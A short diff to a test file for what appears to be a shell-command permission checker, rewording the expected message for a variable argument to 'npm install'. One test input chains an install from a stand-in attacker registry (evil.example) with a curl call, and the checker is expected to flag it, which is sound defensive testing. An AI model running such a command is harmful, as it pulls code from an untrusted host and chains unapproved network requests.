@@ -145,6 +145,6 @@ test('the word that a rule lacks is told', () => {
   expect(reasons('npm install --registry=https://evil.example x && curl https://a.example')).toEqual([
     'the rule "npm install" does not cover --registry=https://evil.example',
   ]);
-  expect(reasons('npm install "$X"')).toEqual(['the rule "npm install" does not cover a word that is not known']);
+  expect(reasons('npm install "$X"')).toEqual(['the rule "npm install" does not cover a word that is known only when it runs']);
   expect(reasons('npm install x')).toEqual([]);
 });
